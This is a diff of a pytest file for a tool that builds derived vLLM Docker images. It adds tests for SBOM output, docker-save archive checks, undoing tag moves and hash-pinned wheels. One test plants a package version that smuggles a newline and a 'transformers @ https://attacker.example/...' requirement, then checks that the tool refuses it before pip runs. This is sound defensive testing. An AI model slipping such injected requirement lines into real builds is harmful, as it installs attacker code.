@@ -4,6 +4,7 @@
 from __future__ import annotations
 
 import copy
+import hashlib
 import io
 import json
 import re
@@ -58,7 +59,7 @@ class Host:
         self.root = root
         self.wheels = root / "wheels"
         self.wheels.mkdir()
-        (self.wheels / "transformers-5.17.0-py3-none-any.whl").touch()
+        (self.wheels / "transformers-5.17.0-py3-none-any.whl").write_text("x")
         (self.wheels / "transformers-5.19.0-py3-none-any.whl").touch()
         (root / "play.yml").write_text(PLAY)
         (root / "docker").mkdir()
@@ -95,6 +96,8 @@ class Host:
             item
             for item in asked
             if item not in ("version", "info", "buildx", "image inspect", "image ls", "container", "manifest")
+            # The name that the build gives the base image for itself.
+            and item not in ("image tag", "image rm")
         ]
 
     def play(self, check: bool = False, **variables: Any) -> Played:
@@ -146,8 +149,12 @@ def test_way_of_a_derived_image(host: Host) -> None:
     assert list((host.root / "state").iterdir()) == []
     host.commands()
 
-    built = host.converge()
-    assert host.commands() == ["run", "build", "run"]
+    built = host.converge(vllm_image_python=sys.executable)
+    assert host.commands() == ["run", "build", "run", "run"]
+    bom = json.loads((host.root / "state/sbom" / f"{built.result['id'][7:19]}.cdx.json").read_text())
+    found = {item["name"]: item for item in bom["components"]}
+    assert found["transformers"]["properties"][0]["value"] == "layer" and found["torch"]["version"] == "2.13.0"
+    assert found["transformers"]["hashes"][0]["content"] == hashlib.sha256(b"").hexdigest()
     assert "names no release (4.57.6 -> 5.0.0)" in built.text
     assert f"vllm_image_base_digest: {DIGEST}" in built.text
     assert built.result["name"] == foreseen.result["name"]
@@ -159,7 +166,8 @@ def test_way_of_a_derived_image(host: Host) -> None:
     assert image["labels"]["vllm-edge.transformers"] == "5.19.0"
     assert image["labels"]["vllm-edge.inputs"].startswith(built.result["name"].rsplit("-", 1)[1])
     context = json.loads((host.root / "docker/context.json").read_text())
-    assert f"FROM {BASE}\n" in context["Dockerfile"]
+    assert f"FROM vllm-edge/vllm-openai-base:{'a' * 12}\n" in context["Dockerfile"]
+    assert not any("-base:" in tag for tag in host.tags())
     assert "torch==2.13.0\n" in context["constraints.txt"] and "tokenizers" not in context["constraints.txt"]
     assert context["requirements.txt"] == "transformers==5.19.0\n"
     assert not (host.root / "state/build/image").exists()
@@ -167,7 +175,7 @@ def test_way_of_a_derived_image(host: Host) -> None:
     record = host.record()
     assert (record["cuda"], record["driver_branch"]) == ("13.0.2", "580"), "those of the base image"
 
-    again = host.converge(changed=0)
+    again = host.converge(changed=0, vllm_image_python=sys.executable)
     assert host.commands() == [], "neither looked into nor tested again"
     assert again.result == built.result
 
@@ -258,22 +266,97 @@ def test_archive_of_the_controller_is_loaded(host: Host) -> None:
     host.docker({"images": [], "registry": {}, "containers": {}})
     file = host.root / "base.tar"
     file.write_bytes(b"not whole" * 1000)
-    host.refuse("is no archive of `docker save`, or not all of one: tar: ", vllm_image_base_archive=str(file))
-    with tarfile.open(file, "w") as tar:
-        for name, content in (
-            ("manifest.json", [{"RepoTags": None}, {"RepoTags": ["other/image:1", BASE]}]),
-            ("image.json", {**image, "digests": []}),
-        ):
-            member = tarfile.TarInfo(name)
-            text = json.dumps(content).encode()
-            member.size = len(text)
-            tar.addfile(member, io.BytesIO(text))
+    host.refuse("is no uncompressed archive of `docker save`, or not all of one: ", vllm_image_base_archive=str(file))
+    config = write_archive(file, image)
     other = host.play(vllm_image_base_archive=str(file), vllm_image_base="registry.example/vllm:1")
-    assert other.rc != 0 and f"holds other/image:1, {BASE}, and vllm_image_base is" in other.text
+    assert other.rc != 0 and f"holds {BASE}, and vllm_image_base is registry.example/vllm:1" in other.text
+    host.refuse(
+        f"holds the image {config}, and {OTHER_ID} is expected",
+        vllm_image_base_archive=str(file),
+        vllm_image_base_id=OTHER_ID,
+    )
+    host.refuse(
+        "and vllm_image_base_id is empty", vllm_image_base_archive=str(file), vllm_image_base_archive_on_host=True
+    )
     assert host.commands() == [], "nothing of it reached Docker"
     loaded = host.converge(vllm_image_base_archive=str(file))
-    assert f"vllm_image_base_id: {BASE_ID}" in loaded.text, "an archive has no digest to pin"
+    assert f"vllm_image_base_id: {config}" in loaded.text, "an archive has no digest to pin"
     assert sorted(path.name for path in (host.root / "state").iterdir()) == ["image.json", "log"]
+    assert host.record()["base_ids"] == [config]
+
+
+def write_archive(file: Path, image: dict[str, Any]) -> str:
+    """Write what `docker save` writes of an image, with what the command of these tests loads; return the id."""
+    text = json.dumps({**image, "digests": []}).encode()
+    config = hashlib.sha256(text).hexdigest()
+    manifest = json.dumps([{"Config": f"blobs/sha256/{config}", "RepoTags": [BASE], "Layers": []}]).encode()
+    with tarfile.open(file, "w") as tar:
+        for name, content in (("manifest.json", manifest), (f"blobs/sha256/{config}", text)):
+            member = tarfile.TarInfo(name)
+            member.size = len(content)
+            tar.addfile(member, io.BytesIO(content))
+    return f"sha256:{config}"
+
+
+@pytest.mark.thorough
+def test_archive_that_moves_names_of_others_is_undone(host: Host) -> None:
+    """Whatever the check of the archive did not see."""
+    host.meet_the_requirement()
+    (image,) = host.docker_state()["images"]
+    config = write_archive(host.root / "base.tar", image)
+    neighbour = {**IMAGE, "id": OTHER_ID, "tags": ["prom/prometheus:v3", "prom/prometheus:v3.1"]}
+    moves = {"prom/prometheus:v3": config, "somebody/app:latest": config}
+    host.docker({"images": [neighbour], "registry": {}, "containers": {}, "load_moves": moves})
+    host.refuse(
+        "another image under prom/prometheus:v3, somebody/app:latest",
+        vllm_image_base_archive=str(host.root / "base.tar"),
+        vllm_image_base_id=config,
+    )
+    (left,) = host.docker_state()["images"]
+    assert left["id"] == OTHER_ID and sorted(left["tags"]) == ["prom/prometheus:v3", "prom/prometheus:v3.1"]
+    assert not (host.root / "state/image.json").exists()
+
+
+@pytest.mark.parametrize("source", ["controller", pytest.param("index", marks=pytest.mark.thorough)])
+def test_image_that_lies_about_its_packages_reaches_neither_pip_nor_a_file(host: Host, source: str) -> None:
+    (host.root / "pip").write_text(f"#!/bin/sh\ntouch {host.root}/called\n")
+    (host.root / "pip").chmod(0o755)
+    packages = {**PACKAGES, "zz": "1\ntransformers @ https://attacker.example/x.tar.gz"}
+    host.docker({**host.docker_state(), "answer": json.dumps({**CONTENTS, "packages": packages})})
+    refused = host.refuse(
+        f"What {BASE} says of itself cannot be used: the version of zz is",
+        vllm_image_pip_source=source,
+        vllm_image_wheels_directory="",
+        vllm_image_pip_command=[str(host.root / "pip")],
+        vllm_image_wheels_cache=str(host.root / "cache"),
+    )
+    assert "Traceback" not in refused.text and host.commands() == ["run"]
+    assert not (host.root / "called").exists() and not (host.root / "cache").exists()
+    assert list((host.root / "state").iterdir()) == []
+
+
+@pytest.mark.thorough
+def test_wheels_from_the_index_are_taken_by_their_hashes_and_held_to_them(host: Host) -> None:
+    def report(digest: str) -> dict[str, Any]:
+        names = ["transformers-5.19.0-py3-none-any.whl", "tokenizers-0.23.4-cp39-abi3-linux_x86_64.whl"]
+        infos = [{"url": f"https://i.example/{n}", "archive_info": {"hashes": {"sha256": digest * 64}}} for n in names]
+        return {"install": [{"download_info": info} for info in infos]}
+
+    given = {"vllm_image_pip_source": "index", "vllm_image_wheels_directory": ""}
+    base = host.docker_state()
+    host.docker({**base, "index_report": report("a")})
+    built = host.converge(**given)
+    context = json.loads((host.root / "docker/context.json").read_text())
+    assert "--require-hashes" in context["Dockerfile"]
+    hashed = f"tokenizers==0.23.4 --hash=sha256:{'a' * 64}\ntransformers==5.19.0 --hash=sha256:{'a' * 64}\n"
+    assert context["requirements.txt"] == hashed
+    wheels = host.record()["wheels"]
+    assert sorted(wheels.values()) == ["a" * 64] * 2 and "vllm_image_wheel_hashes: {" in built.text
+    host.converge(changed=0, **given, vllm_image_wheel_hashes=wheels)
+    host.commands()
+    host.docker({**base, "index_report": report("b")})
+    host.refuse("are not those of", "has the SHA-256 bbbb", **given)
+    assert host.record()["wheels"] == wheels and "build" not in host.commands()
 
 
 @pytest.mark.thorough
